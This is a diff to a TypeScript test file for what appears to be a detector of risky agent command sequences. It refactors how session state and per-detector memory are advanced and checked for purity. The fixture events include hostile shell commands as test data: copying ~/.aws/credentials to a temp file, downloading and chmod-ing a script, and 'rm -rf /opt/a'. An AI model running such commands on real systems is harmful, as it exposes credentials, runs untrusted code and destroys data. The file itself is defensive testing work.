@@ -1,9 +1,12 @@
 import { describe, expect, it } from 'vitest';
 import type { Event } from '../../../core/event.js';
 import { factsOf } from '../../../detectors/facts.js';
-import {
-  advanceSession, newSessionState, MAX_DESTRUCTIVE, MAX_DOWNLOADS, MAX_PERSISTENCE, MAX_SECRET_TOKENS, MAX_STAMPS, MAX_TAINTED, type SessionState,
-} from '../../../detectors/session-state.js';
+import { advanceSession, newSessionState, MAX_SECRET_TOKENS, MAX_TAINTED, type SessionState } from '../../../detectors/session-state.js';
+import { MAX_STAMPS } from '../../../detectors/sequence/bounded.js';
+import { MAX_DOWNLOADS } from '../../../detectors/sequence/download-execute.js';
+import { MAX_PERSISTENCE } from '../../../detectors/sequence/persistence-execute.js';
+import { MAX_DESTRUCTIVE } from '../../../detectors/sequence/destructive-chain.js';
+import { createSequenceDetectors } from '../../../detectors/sequence/index.js';
 import { at, bash, CTX, mcpResult, read, readResult, replayAll, webFetch } from './replay.js';
 
 const many = (n: number, line: (i: number) => string) => Array.from({ length: n }, (_, i) => bash(line(i)));
@@ -56,20 +59,29 @@ describe('SessionState stays bounded', () => {
   });
 });
 
+/** The shared state and every sequence detector's memory, advanced side by side as DetectorSet does. */
+function advanceAll(events: Event[], check?: (before: string, after: string) => void) {
+  const detectors = createSequenceDetectors();
+  let shared: SessionState = newSessionState(events[0]!);
+  let own = detectors.map((d) => d.memory?.initial());
+  for (const e of events) {
+    const facts = factsOf(e, CTX);
+    const before = JSON.stringify([shared, own]);
+    const nextOwn = detectors.map((d, i) => d.memory?.update({ event: e, facts, session: shared, state: own[i], ctx: CTX }));
+    const nextShared = advanceSession(shared, e, facts);
+    check?.(before, JSON.stringify([shared, own]));
+    [shared, own] = [nextShared, nextOwn];
+  }
+  return Object.assign({}, shared, ...own) as SessionState & { downloads: { chmodId?: string }[] };
+}
+
 describe('advanceSession is pure', () => {
   it('does not change the state it is given, and replays to the same state', () => {
     const events = [webFetch('https://a.example'), bash('cat ~/.aws/credentials > /tmp/x'), bash('curl -o i.sh https://x.example/i'), bash('chmod +x i.sh'), bash('rm -rf /opt/a')];
-    let state: SessionState = newSessionState(events[0]!);
-    for (const e of events) {
-      const before = JSON.stringify(state);
-      const next = advanceSession(state, e, factsOf(e, CTX));
-      expect(JSON.stringify(state)).toBe(before);
-      state = next;
-    }
+    const state = advanceAll(events, (before, after) => expect(after).toBe(before));
     expect(state.downloads[0]!.chmodId).toBe(events[3]!.id);
     expect(state.tainted.map((t) => t.path)).toEqual(['/tmp/x']);
-    let again: SessionState = newSessionState(events[0]!);
-    for (const e of events) again = advanceSession(again, e, factsOf(e, CTX));
+    const again = advanceAll(events);
     expect(again).toEqual(state);
   });
 });
